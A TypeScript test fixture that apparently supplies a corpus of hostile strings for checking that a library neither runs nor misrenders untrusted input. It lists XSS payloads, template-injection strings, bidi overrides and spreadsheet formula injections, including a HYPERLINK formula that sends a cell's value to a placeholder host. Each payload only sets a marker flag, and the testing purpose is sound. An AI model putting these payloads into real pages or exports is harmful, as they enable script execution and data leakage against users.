/**
 * Hostile strings, for the tests that pass them through everything the library shows or reads:
 * markup, event-handler attributes, `javascript:` URLs, template syntax, bidi overrides, spreadsheet
 * formulas and very long text. Every executable payload would set `window.__hostile`, so a test can
 * tell that nothing ran. No DOM at import: the SDK's tests in Node use the corpus too.
 */

/** The global every payload would set if it ever ran. */
export const MARKER = '__hostile';

/** Long enough to overflow any line, with and without places to break it. */
const LONG_WORDS = 'very long text '.repeat(700).trim();
const LONG_UNBROKEN = 'W'.repeat(5000);

export const HOSTILE_STRINGS: readonly string[] = [
  `<img src=x onerror="window.${MARKER}=1">`,
  `<script>window.${MARKER}=1</script>`,
  `"><svg onload="window.${MARKER}=1"></svg>`,
  `' onmouseover='window.${MARKER}=1' data-x='`,
  `javascript:window.${MARKER}=1`,
  `<a href="javascript:window.${MARKER}=1">link</a>`,
  `<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  `<style>*{display:none!important}</style>`,
  `<!-- </p></div></template>`,
  '${window.' + MARKER + '=1}',
  `{{constructor.constructor('window.${MARKER}=1')()}}`,
  // Right-to-left override and isolate, left open: text after them must not be reversed.
  '\u202Eesrever ni nwohs',
  '\u2067isolate opened, never closed',
  'Z\u0351\u0352\u0357\u035b\u0363a\u036b\u0306l\u0308g\u030do\u0334 \u{1F469}\u200D\u2695\uFE0F \u{1D573}\u{1D594}\u{1D598}\u{1D599}',
  // Text a spreadsheet would run as a formula when it opens an export.
  '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  LONG_WORDS,
  LONG_UNBROKEN,
];

/** Whether any payload ran in this page. */
export function payloadRan(): boolean {
  return (globalThis as Record<string, unknown>)[MARKER] !== undefined;
}
